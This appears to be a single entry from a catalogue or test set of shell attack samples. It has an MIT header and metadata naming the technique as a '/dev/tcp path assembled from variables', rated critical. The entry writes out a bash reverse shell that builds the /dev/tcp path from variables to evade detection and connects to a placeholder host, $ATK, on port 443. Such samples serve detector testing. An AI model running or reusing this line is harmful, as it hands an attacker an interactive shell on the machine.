# SPDX-License-Identifier: MIT
# technique: the /dev/tcp path assembled from variables
# level: critical
# quick: no
a=/dev; b=tcp; c=$ATK; d=443
t0
bash -c "x=\$0; bash -i >& \$x 0>&1" "$a/$b/$c/$d"
